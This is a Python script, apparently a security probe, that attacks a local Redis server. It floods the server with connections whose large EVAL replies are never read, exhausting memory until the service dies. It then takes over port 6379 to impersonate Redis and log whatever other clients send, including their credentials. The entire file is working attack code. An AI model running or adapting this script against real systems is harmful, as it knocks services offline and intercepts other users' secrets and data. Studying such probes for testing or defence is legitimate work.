import os
import socket
import threading
import time
from urllib.parse import urlparse

PORT = 6379
PIECE = 8 << 20

url = urlparse(os.environ["REDIS_URL"])


def command(*words):
    parts = [word if isinstance(word, bytes) else word.encode() for word in words]
    return b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(part), part) for part in parts)


def connect():
    connection = socket.create_connection(("127.0.0.1", PORT))
    connection.sendall(command("AUTH", url.username, url.password))
    connection.recv(64)
    return connection


def starve():
    """Answers that nobody reads are kept for whoever asked."""
    held = []
    first = connect()
    first.sendall(command("SET", "piece", b"x" * PIECE))
    first.recv(64)
    while True:
        held.append(connect())
        # A new value each time, so that what waits to be read is not shared.
        held[-1].sendall(command("EVAL", "return redis.call('GET', 'piece') .. ARGV[1]", "0", str(len(held))) * 4)
        time.sleep(0.02)


def listen():
    """Until the port is free, and then for good."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    while True:
        try:
            listener.bind(("127.0.0.1", PORT))
            break
        except OSError:
            time.sleep(0.005)
    listener.listen()
    print("TRIED it has the service's port", flush=True)
    while True:
        somebody, _ = listener.accept()
        said = somebody.recv(4096)
        if url.password.encode() not in said:
            print(f"BREACH somebody else came and said {said!r}", flush=True)


threading.Thread(target=listen, daemon=True).start()
try:
    starve()
except OSError as lost:
    print(f"TRIED the service is gone: {lost}", flush=True)
time.sleep(60)
